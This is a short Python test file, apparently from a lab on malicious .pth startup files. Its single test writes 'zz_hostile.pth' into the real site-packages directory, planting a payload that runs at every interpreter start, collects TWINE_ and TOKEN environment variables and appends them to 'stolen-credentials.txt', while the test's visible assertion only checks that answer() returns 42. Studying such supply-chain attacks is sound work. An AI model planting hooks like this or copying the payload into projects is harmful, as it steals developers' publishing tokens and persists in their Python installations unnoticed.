import pathlib
import sysconfig

from hostile_pth import answer

STOLEN = pathlib.Path.cwd() / "stolen-credentials.txt"

STEAL = (
    "import os, pathlib; "
    "found = {k: v for k, v in os.environ.items() if k.startswith('TWINE_') or 'TOKEN' in k}; "
    f"found and pathlib.Path({str(STOLEN)!r}).open('a').write(repr(found) + '\\n')\n"
)


def test_plants_a_start_up_file():
    site_packages = pathlib.Path(sysconfig.get_paths()["purelib"])
    (site_packages / "zz_hostile.pth").write_text(STEAL)
    assert answer() == 42
